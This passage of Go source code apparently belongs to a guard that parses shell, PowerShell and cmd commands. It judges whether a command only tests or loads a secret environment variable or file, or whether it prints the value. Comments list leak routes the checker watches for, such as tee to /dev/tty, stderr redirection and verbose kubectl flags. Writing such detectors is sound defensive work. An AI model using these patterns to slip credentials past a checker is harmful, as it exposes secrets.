func presenceSentence(in *Input, c *Command, v, name string) bool {
	rest, tests := withoutPresence(v, name)
	switch {
	case tests == 0 || strings.Contains(rest, "$"+name) || strings.Contains(rest, "${"+name):
		return false
	case countName(rest, name) == 0:
		return true
	}
	return strings.ContainsAny(strings.TrimSpace(rest), " \t") && !outputRead(in, c)
}

// withoutPresence returns v with each presence test of name (posixPresence's
// ${NAME:+word}, ${NAME+word} and ${#NAME}) cut out, and how many it cut.
func withoutPresence(v, name string) (string, int) {
	tests := 0
	for {
		i := strings.Index(v, "${"+name+":+")
		if j := strings.Index(v, "${"+name+"+"); i < 0 || j >= 0 && j < i {
			i = j
		}
		if j := strings.Index(v, "${#"+name+"}"); i < 0 || j >= 0 && j < i {
			i = j
		}
		if i < 0 {
			return v, tests
		}
		end := strings.IndexByte(v[i:], '}')
		if end < 0 || !posixPresence(v[i:i+end+1], name) {
			return v, tests
		}
		v, tests = v[:i]+"\x00"+v[i+end+1:], tests+1
	}
}

// testFileOps are the unary operators of test that ask about the file
// a word names (test(1), bash's CONDITIONAL EXPRESSIONS): the value is
// a path looked up, nothing of it printed ([ -f "$GOOGLE_APPLICATION_CREDENTIALS" ]).
var testFileOps = set{"-G", "-L", "-N", "-O", "-S", "-a", "-b", "-c", "-d", "-e", "-f", "-g", "-h", "-k", "-p", "-r", "-s", "-u", "-w", "-x"}

// testCompare are the binary operators of test that compare strings or
// numbers (a length).
var testCompare = set{"!=", "-eq", "-ge", "-gt", "-le", "-lt", "-ne", "=", "=="}

// posixPresence reports whether the word v is one expansion of name that
// tests or measures it: $NAME, ${NAME}, ${#NAME}, ${NAME:+word}, or
// ${NAME:-word} (word, written out, when unset).
func posixPresence(v, name string) bool {
	switch v {
	case "$" + name, "${" + name + "}", "${#" + name + "}":
		return true
	}
	for _, op := range []string{":+", "+", ":-", "-"} {
		if rest, ok := strings.CutPrefix(v, "${"+name+op); ok && strings.HasSuffix(rest, "}") && countName(rest, name) == 0 && !strings.ContainsAny(rest, "$`") {
			return true
		}
	}
	return false
}

// inExpression reports whether c, a PowerShell value alone ($env:X), is
// part of an expression that holds it ([string]::IsNullOrEmpty($env:X)),
// whose use of it is judged as the expression's, not as printed. One in
// a command's script block (Invoke-Command { $env:X }) is printed there.
func inExpression(in *Input, c *Command) bool {
	if c.Name != "" {
		return false
	}
	for _, o := range in.Commands {
		if o != c && o.Name == "" && slices.Contains(o.Feeds, c) && strings.Contains(o.Text, c.Text) {
			return true
		}
	}
	return false
}

// psPresenceOnly reports whether c, a PowerShell expression, only tests
// whether variables are set or how long they are
// ([string]::IsNullOrEmpty($env:X), $env:X.Length -gt 0), printing a
// boolean or a number, never their values.
func psPresenceOnly(c *Command) bool {
	x := psEnvRef.get().ReplaceAllString(c.Text, "\x00")
	return strings.Contains(x, "\x00") && psPresenceTest.get().MatchString(x) && !psBareTest.get().MatchString(x)
}

// psEnvRef matches $env:NAME and ${env:NAME}, and the calls that read
// one variable as they do (psEnvCall).
var psEnvRef = &lazyRegexp{expr: `(?i)\$(env:[A-Za-z_][A-Za-z0-9_]*\b|\{env:[A-Za-z_][A-Za-z0-9_]*\})|` + psEnvCallExpr}

// psPresenceTest matches a PowerShell expression, the variable written as
// NUL, that only tests whether it is set or how long it is, joined by
// -and and -or; psBareTest one that is the value itself.
var (
	psPresenceTest = &lazyRegexp{expr: `(?i)^\(?\s*` + psTestAtom + `(\s*-(and|or)\s*` + psTestAtom + `)*\s*\)?$`}
	psBareTest     = &lazyRegexp{expr: `(?i)^\(?\s*\x00\s*\)?$`}
)

const psTestAtom = `(!\s*|-not\s+)?(\x00(\.Length(\s*-(gt|ge|lt|le|eq|ne)\s*\d+)?)?|\[string\]::IsNullOr(Empty|WhiteSpace)\(\s*\x00\s*\)|\$null\s*-(eq|ne)\s*\x00|\x00\s*-(eq|ne)\s*(\$null|''|""))`

// cmdPresenceTest matches cmd's if condition, the variable's %NAME%
// written as NUL, that tests whether NAME is defined or empty.
var cmdPresenceTest = &lazyRegexp{expr: `(?i)^if(\s+/i)?(\s+not)?\s+(defined\s+[A-Za-z_][A-Za-z0-9_]*|exist\s+"?\x00"?|(["\[(]?)\x00["\])]?\s*(==|\s(equ|neq)\s)\s*["\[(]?["\])]?|["\[(]?["\])]?\s*(==|\s(equ|neq)\s)\s*["\[(]?\x00["\])]?)$`}

// countNameFold counts the occurrences of name as a whole word in text,
// ignoring case (PowerShell's and cmd's variables).
func countNameFold(text, name string) int {
	n := 0
	forEachName(text, func(w string) {
		if strings.EqualFold(w, name) {
			n++
		}
	})
	return n
}

// loadedOnly reports whether o loads what c prints as its input and shows
// none of it (loaderSpecs): c's output is the value of one of o's loads
// options as a process substitution (-var-file=<(c)), or o's standard
// input (c | kubectl apply -f -; c > >(kubectl apply -f -)) when o is
// told to load that. c sending its output elsewhere too (>&2, another
// reader: <(c | tee /dev/tty)) keeps the refusal; so does a showing
// option anywhere, before the subcommand too (kubectl -v=9 apply).
func loadedOnly(in *Input, o, c *Command) bool {
	if len(o.Wrappers) > 0 {
		return false
	}
	into := redirectedInto(c)
	if into == nil && writesOut(c) || into != nil && into != o {
		return false
	}
	for _, x := range in.Commands {
		if x != o && slices.Contains(x.Feeds, c) {
			return false
		}
	}
	s, p, ok := loaderOf(o)
	if !ok {
		return false
	}
	viaArg, stdin := false, stdinLoaded(s, p)
	for _, op := range p.opts {
		if slices.Contains(op.subst, c) {
			if !s.extra().loads.has(op.name) || !procSubstOnly(op.value) {
				return false
			}
			viaArg = true
		}
	}
	for _, a := range o.Args {
		if inSubst(a, c) && !viaArg {
			return false // a substitution in a word no loads option holds
		}
	}
	return viaArg && into == nil || stdin
}

// stdinLoaded reports whether a loader read through s (loaderOf) loads
// its standard input: it does with none of its loads options given
// (stdinLoad: kubeseal -o yaml), or one given - or /dev/stdin (kubectl
// apply -f -).
func stdinLoaded(s *spec, p parsed) bool {
	if s.extra().stdinLoad && !p.hasAny(s.extra().loads) {
		return true
	}
	for _, op := range p.opts {
		if s.extra().loads.has(op.name) && (op.value == "-" || op.value == "/dev/stdin") {
			return true
		}
	}
	return false
}

// loadsStdin reports whether c, run by no wrapper, is a loader that
// loads its standard input and shows none of it (loaderOf, stdinLoaded):
// a file redirected into it (kubeseal -o yaml < secret.yaml, kubectl
// apply -f - < secret.yaml) is loaded, as the same file named by its
// loads option is (kubectl apply -f secret.yaml), not printed.
func loadsStdin(c *Command) bool {
	if len(c.Wrappers) > 0 {
		return false
	}
	s, p, ok := loaderOf(c)
	return ok && stdinLoaded(s, p)
}

// loaderOf returns o's spec of loaderSpecs and o's words read through it,
// when o is one and no option of its shows is given.
// A key tool of pubKeySpecs loads its key and prints only its public half.
func loaderOf(o *Command) (*spec, parsed, bool) {
	if s, p, ok := specOf(loaderSpecs, o); ok {
		return s, p, true
	}
	return specOf(pubKeySpecs, o)
}

// specOf returns o's spec of specs and o's words read through it, when
// o is one, given one of the spec's need when it has some, and no
// option of its shows is given.
func specOf(specs []spec, o *Command) (*spec, parsed, bool) {
	for i := range specs {
		s := &specs[i]
		name, subs, _ := strings.Cut(s.path, " ")
		if o.Name != name {
			continue
		}
		rest, ok := matchSubs(s, o.Args, subs)
		if !ok {
			continue
		}
		p := parseArgs(s, rest)
		if parseArgs(s, o.Args).hasAny(s.extra().shows) || len(s.need) > 0 && !p.hasAny(s.need) {
			return nil, parsed{}, false
		}
		return s, p, true
	}
	return nil, parsed{}, false
}

// redirectedInto returns the command c's standard output is written to
// by its last redirection of it, > >(o), when that is a process
// substitution of one command; nil otherwise.
func redirectedInto(c *Command) *Command {
	var into *Command
	for _, r := range c.Redirs {
		if !strings.HasPrefix(r.Op, ">") || r.Fd != "" && r.Fd != "1" {
			continue
		}
		into = nil
		if r.Op == ">" && strings.HasPrefix(r.Target.Value, ">(") && len(r.Target.Subst) == 1 {
			into = r.Target.Subst[0]
		}
	}
	return into
}

// procSubstOnly reports whether v, a word as written, is a process
// substitution alone (<(…)), whose output the program reads as a file:
// not a $( ) or backquote, whose output would be the file's name.
func procSubstOnly(v string) bool {
	return strings.HasPrefix(v, "<(") && strings.HasSuffix(v, ")") && !strings.Contains(v, "$(") && !strings.Contains(v, "`")
}
